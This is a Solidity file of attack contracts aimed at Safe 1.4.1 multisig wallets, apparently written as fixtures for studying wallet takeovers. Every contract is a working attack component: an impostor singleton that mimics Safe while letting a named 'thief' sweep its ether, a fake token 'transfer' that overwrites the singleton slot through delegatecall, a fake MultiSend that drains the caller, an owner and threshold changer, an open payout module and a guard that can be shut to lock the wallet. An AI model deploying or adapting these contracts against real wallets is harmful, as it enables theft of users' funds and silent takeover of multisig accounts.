// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.37;

// What has been, or could be, put in the place of Safe's own contracts.

/// Storage as Safe 1.4.1 lays it out.
contract SafeStorage {
    address internal singleton;
    mapping(address => address) internal modules;
    mapping(address => address) internal owners;
    uint256 internal ownerCount;
    uint256 internal threshold;
    uint256 public nonce;
}

/// A singleton that answers every question as Safe does, from the same storage, and pays one person without a signature.
contract ImpostorSingleton is SafeStorage {
    address public immutable thief;
    string public constant VERSION = "1.4.1";

    constructor(address thief_) {
        thief = thief_;
    }

    receive() external payable {}

    function getThreshold() external view returns (uint256) {
        return threshold;
    }

    function getOwners() external view returns (address[] memory found) {
        found = new address[](ownerCount);
        address current = owners[address(1)];
        for (uint256 i = 0; current != address(1); i++) {
            found[i] = current;
            current = owners[current];
        }
    }

    function isOwner(address who) external view returns (bool) {
        return who != address(1) && owners[who] != address(0);
    }

    function isModuleEnabled(address) external pure returns (bool) {
        return false;
    }

    function getModulesPaginated(address, uint256) external pure returns (address[] memory found, address next) {
        return (found, address(1));
    }

    function sweep(address payable to) external {
        require(msg.sender == thief, "not the thief");
        (bool done,) = to.call{value: address(this).balance}("");
        require(done, "not taken");
    }
}

/// Looks like a token in a list of calls. Called by delegatecall, its `transfer` writes the singleton of who called.
contract SlotOverwriter {
    address internal singleton;

    function transfer(address to, uint256) external returns (bool) {
        singleton = to;
        return true;
    }
}

/// Has MultiSend's one function and its selector, and gives the caller's ether to the thief.
contract FakeMultiSend {
    address payable public immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    function multiSend(bytes memory) external payable {
        (bool done,) = thief.call{value: address(this).balance}("");
        require(done, "not taken");
    }
}

/// A second owner's way in: called by delegatecall it adds an owner or lowers the threshold behind every check.
contract OwnerChanger is SafeStorage {
    function add(address owner) external {
        owners[owner] = owners[address(1)];
        owners[address(1)] = owner;
        ownerCount++;
    }

    function lower(uint256 threshold_) external {
        threshold = threshold_;
    }

    function enable(address module) external {
        modules[module] = modules[address(1)];
        modules[address(1)] = module;
    }
}

interface ModuleHost {
    function execTransactionFromModule(address to, uint256 value, bytes memory data, uint8 operation)
        external
        returns (bool);
}

/// A module: whoever calls it has the Safe pay.
contract OpenModule {
    function take(ModuleHost safe, address to, uint256 value) external {
        require(safe.execTransactionFromModule(to, value, "", 0), "not paid");
    }
}

/// A guard that lets everything through, until `close` is called on it.
contract Guard {
    bool public closed;

    function close() external {
        closed = true;
    }

    function supportsInterface(bytes4 id) external pure returns (bool) {
        return id == 0xe6d7a83a || id == 0x01ffc9a7;
    }

    function checkTransaction(
        address,
        uint256,
        bytes memory,
        uint8,
        uint256,
        uint256,
        uint256,
        address,
        address payable,
        bytes memory,
        address
    ) external view {
        require(!closed, "closed");
    }

    function checkAfterExecution(bytes32, bool) external {}
}
